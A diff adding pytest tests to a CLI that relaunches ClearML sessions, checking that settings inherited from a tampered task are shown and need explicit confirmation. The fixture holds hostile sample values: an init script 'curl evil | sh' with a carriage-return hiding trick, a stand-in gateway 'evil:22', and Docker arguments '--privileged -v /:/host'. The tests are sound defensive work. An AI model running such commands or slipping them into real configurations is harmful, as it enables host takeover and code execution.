@@ -2,6 +2,7 @@
 
 import io
 from collections.abc import Callable, Iterator
+from dataclasses import replace
 from datetime import UTC, datetime
 
 import pytest
@@ -35,9 +36,56 @@ def test_the_options_of_an_ended_session_are_taken_over_and_flags_change_them(ru
 def test_a_session_of_another_computer_is_launched_again_and_what_is_unknown_is_said(run: Run, world: World) -> None:
     task = ended(run, world, "--packages", "tqdm", "--git-credentials")
     world.profiles.forget_session(f"{ACCOUNT.id}/{task}")
-    said = run("launch", "--again", task, "--no-attach")
-    assert said.code == 0 and "Another computer" in said.err
+    said = run("launch", "--again", task, "--no-attach", "--yes")
+    assert said.code == 0 and "Another computer" in said.err and "Python packages: tqdm" in said.err
     assert [found.draft.requirements[1:] for found in world.server().tasks.values()] == [("tqdm",)] * 2
+
+
+EDITED = {
+    "init_script": "curl evil | sh\rtrue\n" + "true\n" * 50,
+    "cli_compatible": "True", "remote_gateway": "evil:22", "router_enabled": "True", "user_folder": "/host",
+}  # fmt: skip
+
+
+def edited(run: Run, world: World) -> str:
+    """A session that another computer launched and somebody else has edited."""
+    task = ended(run, world, "--docker", "python:3.12")
+    world.profiles.forget_session(f"{ACCOUNT.id}/{task}")
+    found = world.server().tasks[task]
+    found.parameters |= EDITED
+    found.draft = replace(found.draft, docker_args="--privileged -v /:/host")
+    return task
+
+
+def test_what_only_a_task_says_is_shown_and_needs_a_yes(run: Run, world: World) -> None:
+    task = edited(run, world)
+    said = run("launch", "--again", task, "--no-attach", "--json")
+    assert (said.code, said.json["error"]["code"]) == (1, "again.unseen") and "--yes" in said.json["error"]["detail"]
+    assert len(world.server().tasks) == 1, "nothing was launched"
+    for shown in (
+        "Queue: default", "Docker image: python:3.12", "Docker arguments: --privileged -v /:/host",
+        "Init script, 52 lines with 270 characters:\n      curl evil | sh\n      true\n", "12 more lines",
+        "Base folder: /host", "ClearML router: yes", "Not taken over: --cli-compatible, --remote-gateway.",
+    ):  # fmt: skip
+        assert shown in said.err
+    again = run("launch", "--again", task, "--no-attach", "--json", "--yes", "--user-folder", "/mine")
+    assert "Docker arguments: --privileged" in again.err and "/host\n" in again.err and "Base folder" not in again.err
+    told = again.json["again"]
+    assert told["taken_over"]["init_script"] == EDITED["init_script"] and "user_folder" not in told["taken_over"]
+    assert told["not_taken_over"] == ["cli_compatible", "remote_gateway"]
+    made = world.server().tasks[again.json["id"]]
+    assert not {"remote_gateway"} & set(made.parameters) and made.parameters["cli_compatible"] == "False"
+    assert made.parameters["user_folder"] == "/mine"
+
+
+def test_of_a_session_of_this_computer_the_task_changes_nothing_and_that_is_said(run: Run, world: World) -> None:
+    world.server().set_queue("evil", ["theirs"])
+    task = ended(run, world, "--session-name", "night")
+    world.server().change(task, queue="evil")
+    again = run("launch", "--again", task, "--no-attach", "--json")
+    assert again.code == 0 and "Queue: the task in ClearML says “evil”" in again.err
+    assert again.json["again"] == {"taken_over": {}, "not_taken_over": [], "differs": {"queue": "evil"}}
+    assert again.json["queue"] == "default"
 
 
 def test_of_sessions_with_one_name_the_newest_is_meant_and_unclear_ids_are_not_guessed(run: Run, world: World) -> None:
@@ -45,7 +93,7 @@ def test_of_sessions_with_one_name_the_newest_is_meant_and_unclear_ids_are_not_g
         ended(run, world, "--session-name", "twin", "--packages", package)
     for task in ("abcd1" + "0" * 27, "abcd2" + "0" * 27):
         world.server().tasks[task] = world.server().tasks[next(iter(world.server().tasks))]
-    again = run("launch", "--again", "twin", "--no-attach", "--json", "--session-name", "third").json["id"]
+    again = run("launch", "--again", "twin", "--no-attach", "--json", "--yes", "--session-name", "third").json["id"]
     assert world.server().tasks[again].draft.requirements[1:] != ()
     assert run("launch", "--again", "abcd", "--no-attach", "--json").json["error"]["code"] == "session.ambiguous"
 
@@ -98,6 +146,19 @@ def test_a_person_types_them_again(
         assert cli.run_command(parsed, lambda: Core(world.outside(), "cli")) == 0
     again = list(world.server().tasks)[-1]
     assert world.secrets.entries[f"ssh-password/{ACCOUNT.id}/{again}"] == "typed at SSH password: "
+
+
+@pytest.mark.parametrize(("answer", "launched"), [("y", 2), ("", 1), ("q", 1)])
+def test_a_person_looks_at_what_a_task_says_and_agrees(
+    run: Run, world: World, terminal: Terminal, in_background: Background, answer: str, launched: int
+) -> None:
+    task = edited(run, world)
+    in_background(lambda: terminal.answer("Launch with these?", answer))
+    with terminal:
+        parsed = cli.parse(["launch", "--again", task, "--no-attach"])
+        code = cli.run_command(parsed, lambda: Core(world.outside(), "cli"))
+    assert (len(world.server().tasks), code) == (launched, 0 if launched == 2 else 130)
+    assert "--privileged -v /:/host" in terminal.seen
 
 
 # -- what is remembered
